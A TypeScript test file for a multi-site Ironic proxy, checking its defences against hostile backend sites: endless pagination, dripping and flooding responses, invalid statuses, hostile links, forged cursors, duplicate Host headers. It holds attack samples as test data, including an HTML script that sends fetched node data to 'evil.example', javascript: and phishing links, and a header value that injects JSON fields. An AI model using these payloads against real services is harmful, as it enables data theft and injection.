/**
 * Edge sites are not trusted (issue 16): fake sites that lie, loop, drip,
 * flood, answer invalid statuses, send 100 Continue or HTML, in front of a
 * real proxy. Each case is bounded in time and memory and answered as Ironic
 * or nginx would; none reaches another site's data or the proxy's origin.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { once } from 'node:events';
import { loadConfigText } from '../../src/config/load.js';
import { createLogger } from '../../src/log.js';
import { startProxy, type RunningProxy } from '../../src/start.js';
import { SiteClient } from '../../src/sites/site-client.js';
import { createSiteAuth } from '../../src/sites/auth.js';
import type { SiteConfig } from '../../src/config/types.js';
import { SiteProtocolError } from '../../src/errors.js';
import { checkDrift } from '../../src/reconcile.js';
import { fault, head, HostileSite, send, uuidOf, type RawRequest } from '../support/hostile-site.js';

const V = { 'x-openstack-ironic-api-version': '1.82' };
const MISSING = 'x-ironic-proxy-missing-sites';
const MiB = 1024 * 1024;

async function get(url: string, headers: Record<string, string> = {}, signal?: AbortSignal): Promise<{ status: number; headers: Headers; text: string; json: any }> {
  const res = await fetch(url, { headers: { ...V, ...headers }, signal, redirect: 'manual' });
  const text = await res.text();
  let json: any;
  try {
    json = JSON.parse(text);
  } catch {
    json = undefined;
  }
  return { status: res.status, headers: res.headers, text, json };
}

const faultstring = (json: any): string => JSON.parse(json.error_message).faultstring;

/** An endless listing: every page full, with a `next`; `fresh` pages hold new items each time, else the same page again. */
function endlessListing(site: HostileSite, fresh: boolean, delayMs = 0): (req: RawRequest, socket: import('node:net').Socket) => boolean {
  let page = 0;
  return (req, socket) => {
    if (req.method !== 'GET' || !/^\/v1\/(nodes|chassis|deploy_templates|runbooks)(\/detail)?$/.test(req.path)) return false;
    const limit = Number(req.query.get('limit') ?? 1000);
    const n = fresh ? page++ : 0;
    const items = Array.from({ length: limit }, (_, i) => ({ uuid: uuidOf('0', n * limit + i), name: `loop-${n}-${i}` }));
    const key = req.path.split('/')[2]!.replace('deploy_templates', 'deploy_templates');
    const doc = { [key]: items, next: `${site.url}${req.path}?limit=${limit}&marker=${items[items.length - 1]!.uuid}` };
    const answer = (): void => send(socket, 200, doc);
    if (delayMs > 0) setTimeout(answer, delayMs);
    else answer();
    return true;
  };
}

describe('hostile sites', () => {
  const good = new HostileSite('good');
  const evil = new HostileSite('evil');
  let proxy: RunningProxy;
  let url: string;
  const goodNode = { uuid: uuidOf('f', 1), name: 'good-1' };
  const evilNode = { uuid: uuidOf('e', 1), name: 'evil-1' };

  before(async () => {
    await Promise.all([good.start(), evil.start()]);
    good.nodes = Array.from({ length: 5 }, (_, i) => ({ uuid: uuidOf('f', i), name: `good-${i}` }));
    evil.nodes = [evilNode];
    const ini = `[DEFAULT]
groups = _:good,g1:evil

[api]
host_ip = 127.0.0.1
port = 0

[oslo_middleware]
enable_proxy_headers_parsing = true

[proxy]
scan_max_pages = 20
memory_budget = 16
circuit_failure_threshold = 1
circuit_open_seconds = 0

[group:good]
auth_type = none
endpoint_override = ${good.url}
timeout = 1

[group:evil]
auth_type = none
endpoint_override = ${evil.url}
timeout = 1
`;
    proxy = await startProxy(loadConfigText(ini), { log: createLogger({ level: process.env.TEST_LOG_LEVEL ?? 'silent' }) });
    url = proxy.url;
  });
  after(async () => {
    await proxy.close();
    await Promise.all([good.close(), evil.close()]);
  });

  describe('loops (16.3): every loop over a site\'s pages has a cap, a deadline, and stops with its client', () => {
    test('a next link that leads back to the same page: positioning a bare marker stops, the site is named missing', { timeout: 15_000 }, async () => {
      evil.handler = endlessListing(evil, false);
      const before = evil.requestsTo('GET', '/v1/nodes').length;
      try {
        const started = performance.now();
        const r = await get(`${url}/v1/nodes?marker=${good.nodes[1]!.uuid}&limit=2`);
        assert.equal(r.status, 200);
        assert.deepEqual(r.json.nodes.map((n: { uuid: string }) => n.uuid), [good.nodes[2]!.uuid, good.nodes[3]!.uuid]);
        assert.equal(r.headers.get(MISSING), 'evil');
        assert.ok(evil.requestsTo('GET', '/v1/nodes').length - before <= 3, 'the second visit of a marker stops the scan');
        assert.ok(performance.now() - started < 3000);
      } finally {
        evil.handler = () => false;
      }
    });

    test('a site with ever new pages: the scan stops at [proxy]scan_max_pages', { timeout: 15_000 }, async () => {
      evil.handler = endlessListing(evil, true);
      const before = evil.requestsTo('GET', '/v1/nodes').length;
      try {
        const r = await get(`${url}/v1/nodes?marker=${good.nodes[1]!.uuid}&limit=2`);
        assert.equal(r.status, 200);
        assert.equal(r.headers.get(MISSING), 'evil');
        const asked = evil.requestsTo('GET', '/v1/nodes').length - before;
        assert.ok(asked >= 20 && asked <= 22, `${asked} pages asked for (cap 20)`);
      } finally {
        evil.handler = () => false;
      }
    });

    test('a client that leaves stops the scan and cancels its site requests', { timeout: 15_000 }, async () => {
      // 20 pages of 100 ms would take 2 s; the client leaves after 300 ms.
      evil.handler = endlessListing(evil, true, 100);
      const before = evil.requestsTo('GET', '/v1/nodes').length;
      try {
        const gone = new AbortController();
        setTimeout(() => gone.abort(), 300);
        await assert.rejects(get(`${url}/v1/nodes?marker=${good.nodes[1]!.uuid}&limit=2`, {}, gone.signal));
        await new Promise((r) => setTimeout(r, 1000));
        const asked = evil.requestsTo('GET', '/v1/nodes').length - before;
        assert.ok(asked <= 5, `${asked} pages asked for after the client left`);
      } finally {
        evil.handler = () => false;
      }
    });

    test('the drift check of global objects stops too, keeping nothing of the endless site', { timeout: 15_000 }, async () => {
      evil.handler = endlessListing(evil, true);
      const cfg: SiteConfig = { name: 'evil', ordinal: 0, conductorGroups: [''], authType: 'none', endpointOverride: evil.url, timeoutSeconds: 1, insecure: false };
      const client = new SiteClient(cfg, createSiteAuth(cfg), { connections: 2, maxQueued: 10, circuitFailureThreshold: 100, circuitOpenSeconds: 1 });
      try {
        const report = await checkDrift([client], { version: { major: 1, minor: 82 }, scan: { maxPages: 10, timeoutMs: 5000 } });
        assert.equal(report.unreachable.length, 1);
        assert.match(report.unreachable[0]!.error, /more than 10 pages/);
      } finally {
        evil.handler = () => false;
        await client.close();
      }
    });
  });

  describe('memory (16.4): one budget for the process', () => {
    test('concurrent large bodies past the budget are refused at once (503), the others go through; all is given back', { timeout: 20_000 }, async () => {
      // The site holds every provision request until told: the bodies stay in flight.
      const held: Array<() => void> = [];
      good.handler = (req, socket) => {
        if (req.method !== 'PUT' || !req.path.endsWith('/states/provision')) return false;
        held.push(() => socket.write(head(202, {}, 0)));
        return true;
      };
      try {
        // Charged twice their size while read (chunks, then one buffer): 7 MiB each.
        const body = JSON.stringify({ target: 'active', configdrive: 'x'.repeat(3.5 * MiB) });
        const put = (): Promise<number> =>
          fetch(`${url}/v1/nodes/${good.nodes[0]!.uuid}/states/provision`, { method: 'PUT', headers: { ...V, 'content-type': 'application/json' }, body }).then(async (r) => {
            await r.arrayBuffer();
            return r.status;
          });
        const first = [put(), put()];
        while (held.length < 2) await new Promise((r) => setTimeout(r, 20));
        // 2 × 7 MiB held of 16 MiB: a third does not fit.
        const third = await fetch(`${url}/v1/nodes/${good.nodes[0]!.uuid}/states/provision`, { method: 'PUT', headers: { ...V, 'content-type': 'application/json' }, body });
        assert.equal(third.status, 503);
        assert.equal(third.headers.get('retry-after'), '1');
        assert.match(faultstring(await third.json()), /memory budget/);
        for (const release of held) release();
        assert.deepEqual(await Promise.all(first), [202, 202]);
        assert.ok(proxy.services.memory.peak <= 16 * MiB);
        await new Promise((r) => setTimeout(r, 50));
        assert.equal(proxy.services.memory.inUse, 0, 'every byte is given back');
      } finally {
        good.handler = () => false;
      }
    });

    test('a body larger than the whole budget is a 413, drained (not held) so the client reads it', async () => {
      const r = await fetch(`${url}/v1/nodes/${good.nodes[0]!.uuid}/states/provision`, {
        method: 'PUT',
        headers: { ...V, 'content-type': 'application/json' },
        body: JSON.stringify({ target: 'active', configdrive: 'x'.repeat(17 * MiB) }),
      });
      assert.equal(r.status, 413);
      assert.equal(faultstring(await r.json()), 'Request body is too large');
    });

    test('a chunked body (no length) is charged as it arrives: past the whole budget, a 413', async () => {
      const chunk = Buffer.alloc(MiB, 0x78);
      let sent = 0;
      const stream = new ReadableStream<Uint8Array>({
        pull(c) {
          if (sent++ < 12) c.enqueue(chunk);
          else c.close();
        },
      });
      const r = await fetch(`${url}/v1/nodes/${good.nodes[0]!.uuid}/states/provision`, {
        method: 'PUT',
        headers: { ...V, 'content-type': 'application/json' },
        body: stream,
        duplex: 'half',
      } as RequestInit);
      assert.equal(r.status, 413);
      await r.arrayBuffer();
      await new Promise((res) => setTimeout(res, 50));
      assert.equal(proxy.services.memory.inUse, 0);
    });

    test('a site flooding large answers: past the budget the client gets 503, the process holds no more than the budget', { timeout: 20_000 }, async () => {
      const big = JSON.stringify({ ...evil.nodeDoc(evilNode), extra: { blob: 'y'.repeat(7 * MiB) } });
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== `/v1/nodes/${evilNode.uuid}` || req.query.has('fields')) return false;
        setTimeout(() => socket.write(head(200, { 'content-type': 'application/json' }, Buffer.byteLength(big)) + big), 100);
        return true;
      };
      const peakBefore = proxy.services.memory.peak;
      try {
        const results = await Promise.all([1, 2, 3, 4].map(() => get(`${url}/v1/nodes/${evilNode.uuid}`)));
        const statuses = results.map((r) => r.status).sort();
        assert.ok(statuses.includes(503), `statuses ${statuses}`);
        assert.ok(statuses.includes(200), `statuses ${statuses}`);
        assert.ok(Math.max(peakBefore, proxy.services.memory.peak) <= 16 * MiB);
      } finally {
        evil.handler = () => false;
      }
      await new Promise((r) => setTimeout(r, 50));
      assert.equal(proxy.services.memory.inUse, 0);
    });
  });

  describe('memory (16.4), listings', () => {
    test('a site whose listing answer does not fit the budget is left out (named missing), the others listed', { timeout: 20_000 }, async () => {
      const big = JSON.stringify({ nodes: [{ ...evil.nodeDoc(evilNode), extra: { blob: 'z'.repeat(17 * MiB) } }] });
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== '/v1/nodes') return false;
        socket.write(head(200, { 'content-type': 'application/json' }, Buffer.byteLength(big)) + big);
        return true;
      };
      try {
        const r = await get(`${url}/v1/nodes`);
        assert.equal(r.status, 200);
        assert.equal(r.headers.get(MISSING), 'evil');
        assert.equal(r.json.nodes.length, good.nodes.length);
      } finally {
        evil.handler = () => false;
      }
      await new Promise((res) => setTimeout(res, 50));
      assert.equal(proxy.services.memory.inUse, 0);
    });
  });

  describe('time (16.5): site_timeout is a total deadline', () => {
    const drip = (req: RawRequest, socket: import('node:net').Socket): boolean => {
      if (req.method !== 'GET' || (req.path !== `/v1/nodes/${evilNode.uuid}` && req.path !== '/v1/nodes') || req.query.has('fields')) return false;
      socket.write(head(200, { 'content-type': 'application/json' }, 10_000));
      const t = setInterval(() => (socket.destroyed ? clearInterval(t) : socket.write(' ')), 50);
      return true;
    };

    test('a site dripping a byte every 50 ms: the node GET is a 504 after site_timeout, not when the drip ends', { timeout: 15_000 }, async () => {
      evil.handler = drip;
      try {
        const started = performance.now();
        const r = await get(`${url}/v1/nodes/${evilNode.uuid}`);
        const ms = performance.now() - started;
        assert.equal(r.status, 504);
        assert.match(faultstring(r.json), /Site evil did not answer within 1 seconds/);
        assert.ok(ms < 2500, `${ms} ms`);
      } finally {
        evil.handler = () => false;
      }
    });

    test('a listing waiting on a dripping site answers after site_timeout, without it', { timeout: 15_000 }, async () => {
      evil.handler = drip;
      try {
        const started = performance.now();
        const r = await get(`${url}/v1/nodes`);
        assert.equal(r.status, 200);
        assert.equal(r.headers.get(MISSING), 'evil');
        assert.ok(performance.now() - started < 2500);
      } finally {
        evil.handler = () => false;
      }
    });
  });

  describe('links (16.6): only where Ironic puts them, only to the site', () => {
    const lying = { uuid: uuidOf('e', 2), name: 'evil-2' };
    before(() => {
      evil.nodes = [evilNode, lying];
    });

    test('user data keeps its href and next; links elsewhere than the site are neutralised', async () => {
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== `/v1/nodes/${lying.uuid}` || req.query.has('fields')) return false;
        send(socket, 200, {
          ...lying,
          extra: { href: `${evil.url}/v1/x`, next: `${evil.url}/n`, links: [{ href: `${evil.url}/l`, rel: 'self' }] },
          links: [
            { href: `${evil.url}/v1/nodes/${lying.uuid}`, rel: 'self' },
            { href: '//evil.example/v1', rel: 'bookmark' },
            { href: 'javascript:alert(1)', rel: 'alternate' },
            { href: 'https://evil.example/phish', rel: 'describedby' },
          ],
        });
        return true;
      };
      try {
        const r = await get(`${url}/v1/nodes/${lying.uuid}`);
        assert.equal(r.status, 200);
        assert.deepEqual(r.json.extra, { href: `${evil.url}/v1/x`, next: `${evil.url}/n`, links: [{ href: `${evil.url}/l`, rel: 'self' }] });
        assert.deepEqual(
          r.json.links.map((l: { href: string }) => l.href),
          [`${url}/v1/nodes/${lying.uuid}`, '', '', ''],
        );
      } finally {
        evil.handler = () => false;
      }
    });

    test('a link key written with escapes ("h\\u0072ef", "n\\u0065xt") is judged as the client decodes it', async () => {
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== `/v1/nodes/${lying.uuid}` || req.query.has('fields')) return false;
        const body =
          `{"uuid": "${lying.uuid}", "name": "${lying.name}", "n\\u0065xt": "https://evil.example/page2", ` +
          `"links": [{"h\\u0072ef": "https://evil.example/phish", "rel": "self"}, {"href": "https://evil.example/b", "r\\u0065l": "bookmark"}]}`;
        socket.write(head(200, { 'content-type': 'application/json' }, Buffer.byteLength(body)) + body);
        return true;
      };
      try {
        const r = await get(`${url}/v1/nodes/${lying.uuid}`);
        assert.equal(r.status, 200);
        assert.ok(!r.text.includes('evil.example'), r.text);
        assert.deepEqual(r.json.links.map((l: { href: string }) => l.href), ['', '']);
        assert.equal(r.json.next, '');
      } finally {
        evil.handler = () => false;
      }
    });

    test('a redirect to another host loses its Location', async () => {
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== `/v1/nodes/${lying.uuid}` || req.query.has('fields')) return false;
        socket.write(head(302, { location: 'https://evil.example/login' }, 0));
        return true;
      };
      try {
        const r = await get(`${url}/v1/nodes/${lying.uuid}`);
        assert.equal(r.status, 302);
        assert.equal(r.headers.get('location'), null);
      } finally {
        evil.handler = () => false;
      }
    });

    test('an X-Forwarded-Prefix with a quote still gives valid JSON (the prefix percent-encoded)', async () => {
      const r = await get(`${url}/v1/nodes/${good.nodes[0]!.uuid}`, { 'x-forwarded-prefix': '/bm"}, "owner": "x' });
      assert.equal(r.status, 200);
      assert.ok(r.json, `not JSON: ${r.text.slice(0, 200)}`);
      assert.equal(r.json.owner, undefined);
      // The first of a comma-separated list (several proxies), percent-encoded.
      assert.ok(r.json.links[0].href.startsWith(`${url}/bm%22%7D/v1/nodes/`), r.json.links[0].href);
    });

    test("a site's HTML is served as inert text, never as a page of the proxy's origin", async () => {
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== `/v1/nodes/${lying.uuid}` || req.query.has('fields')) return false;
        const html = '<html><script>fetch("/v1/nodes").then(r => r.text()).then(t => new Image().src = "//evil.example/?" + t)</script></html>';
        socket.write(head(500, { 'content-type': 'text/html; charset=UTF-8' }, Buffer.byteLength(html)) + html);
        return true;
      };
      try {
        const r = await get(`${url}/v1/nodes/${lying.uuid}`);
        assert.equal(r.status, 500);
        assert.equal(r.headers.get('content-type'), 'text/plain; charset=UTF-8');
        assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
        assert.match(r.headers.get('content-security-policy') ?? '', /sandbox/);
      } finally {
        evil.handler = () => false;
      }
    });
  });

  describe('cursors (16.7): signed with a keyed MAC', () => {
    test('an edited cursor is not trusted: its markers never reach a site, the page follows the plain marker', async () => {
      const first = await get(`${url}/v1/nodes?limit=2`);
      assert.equal(first.status, 200);
      const next = new URL(first.json.next);
      const cursor = next.searchParams.get('proxy_cursor')!;
      const raw = Buffer.from(cursor, 'base64url');
      // What a client can do without the key: keep the head (format, and the old unkeyed binding), change the positions.
      const text = Buffer.from('evil-marker');
      const forgedPositions = Buffer.concat([0, 1].map(() => Buffer.concat([Buffer.from([3, 0, text.length]), text])));
      const keptHead = raw[0] === 1 ? raw.subarray(0, 7) : raw.subarray(0, 1);
      const keptTail = raw[0] === 1 ? Buffer.alloc(0) : raw.subarray(raw.length - 16);
      next.searchParams.set('proxy_cursor', Buffer.concat([keptHead, forgedPositions, keptTail]).toString('base64url'));
      const marked = (site: HostileSite): number => site.requests.filter((r) => r.query.get('marker') === 'evil-marker').length;
      const r = await get(next.toString());
      assert.equal(marked(good) + marked(evil), 0, 'the forged markers reached a site');
      assert.equal(r.status, 200);
      const expected = [...good.nodes, ...evil.nodes].map((n) => n.uuid).sort();
      assert.deepEqual(r.json.nodes.map((n: { uuid: string }) => n.uuid), expected.slice(2, 4));
    });
  });

  describe('the smaller points (16.8)', () => {
    test('a status outside 100–599 is the site\'s 502, naming it (not a 500)', async () => {
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== `/v1/nodes/${evilNode.uuid}` || req.query.has('fields')) return false;
        socket.write(head(600, { 'content-type': 'application/json' }, 2) + '{}');
        return true;
      };
      try {
        const r = await get(`${url}/v1/nodes/${evilNode.uuid}`);
        assert.equal(r.status, 502);
        assert.match(faultstring(r.json), /Site evil sent an invalid response: status 600 is outside 100–599/);
      } finally {
        evil.handler = () => false;
      }
    });

    test('an unsolicited 100 Continue is the site\'s 502 and does not open its circuit', async () => {
      evil.handler = (req, socket) => {
        if (req.method !== 'GET' || req.path !== `/v1/nodes/${evilNode.uuid}` || req.query.has('fields')) return false;
        socket.write('HTTP/1.1 100 Continue\r\n\r\n');
        send(socket, 200, evil.nodeDoc(evilNode));
        return true;
      };
      const cfg: SiteConfig = { name: 'evil', ordinal: 0, conductorGroups: [''], authType: 'none', endpointOverride: evil.url, timeoutSeconds: 1, insecure: false };
      const client = new SiteClient(cfg, createSiteAuth(cfg), { connections: 2, maxQueued: 10, circuitFailureThreshold: 1, circuitOpenSeconds: 60 });
      try {
        const r = await get(`${url}/v1/nodes/${evilNode.uuid}`);
        assert.equal(r.status, 502);
        assert.match(faultstring(r.json), /Site evil sent an invalid response/);
        await assert.rejects(
          client.request({ method: 'GET', path: `/v1/nodes/${evilNode.uuid}`, version: { major: 1, minor: 82 }, requestId: 'r' }),
          SiteProtocolError,
        );
        assert.equal(client.breaker.state, 'closed');
        evil.handler = () => false;
        const ok = await client.request({ method: 'GET', path: `/v1/nodes/${evilNode.uuid}`, version: { major: 1, minor: 82 }, requestId: 'r' });
        assert.equal(ok.status, 200, 'the site is asked again at once');
      } finally {
        evil.handler = () => false;
        await client.close();
      }
    });

    test('two Host headers are a 400, as nginx answers', async () => {
      const { port } = new URL(url);
      const socket = connect(Number(port), '127.0.0.1');
      await once(socket, 'connect');
      socket.write(`GET /v1/nodes HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\nX-OpenStack-Ironic-API-Version: 1.82\r\n\r\n`);
      const chunks: Buffer[] = [];
      socket.on('data', (c: Buffer) => chunks.push(c));
      await once(socket, 'close');
      assert.match(Buffer.concat(chunks).toString(), /^HTTP\/1\.1 400 /);
      assert.equal(good.requestsTo('GET', '/v1/nodes').filter((r) => !r.query.has('fields') && r.headers.host === 'b.example').length, 0);
    });

    test('one Host header is served as usual', async () => {
      const r = await get(`${url}/v1/nodes/${good.nodes[0]!.uuid}`);
      assert.equal(r.status, 200);
      void fault;
    });
  });
});
